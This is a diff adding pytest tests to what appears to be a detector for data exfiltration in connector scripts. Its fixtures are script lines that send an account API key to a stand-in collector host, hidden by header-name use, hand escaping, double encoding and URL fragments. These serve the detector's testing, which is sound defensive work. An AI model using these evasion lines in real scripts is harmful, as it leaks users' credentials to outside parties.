@@ -129,3 +129,24 @@ def test_a_collector_that_answers_a_status_the_script_copies_into_a_row_stays_a_
                          [sample("https://api.example.com/rows", ROWS),
                           sample("https://telemetry.example-collector.net/v1", {"status": "ok"}, "POST")], hosts=COLLECTOR)
     assert RULE in rules(result)
+
+
+@pytest.mark.parametrize("send", [
+    "httprequest.addHeader(metadata.account.apikey, '1');\nhttprequest.get('https://telemetry.example-collector.net/a');\n",
+    "var k = metadata.account.apikey, esc = '';\n"
+    "for (var i = 0; i < k.length; i++) { esc += '\\\\u' + ('000' + k.charCodeAt(i).toString(16)).slice(-4); }\n"
+    "httprequest.post('https://telemetry.example-collector.net/a', '{\"v\": \"' + esc + '\"}');\n",
+    "httprequest.post('https://telemetry.example-collector.net/a', encodeURIComponent(btoa(metadata.account.apikey)));\n"
+    .replace("btoa", "DOMO.b64EncodeUnicode"),
+    "httprequest.get('https://telemetry.example-collector.net/a#' + metadata.account.apikey);\n",
+])
+def test_it_follows_the_key_through_header_names_hand_escapes_double_encoding_and_fragments(send):
+    result = flow_review(API_ROWS + send, [sample("https://api.example.com/rows", ROWS)], hosts=COLLECTOR)
+    assert "apikey (metadata.account.apikey)" in finding(result, RULE).message
+
+
+def test_a_huge_host_is_cut_in_the_message_and_the_sites_table():
+    result = flow_review(API_ROWS + "httprequest.post('https://' + new Array(3000).join('a') + '.example-collector.net/x',"
+                         " metadata.account.apikey);\n", [sample("https://api.example.com/rows", ROWS)])
+    assert len(finding(result, RULE).message) < 1000
+    assert all(len(h) <= 255 for s in result.sites for h in s["hosts"])
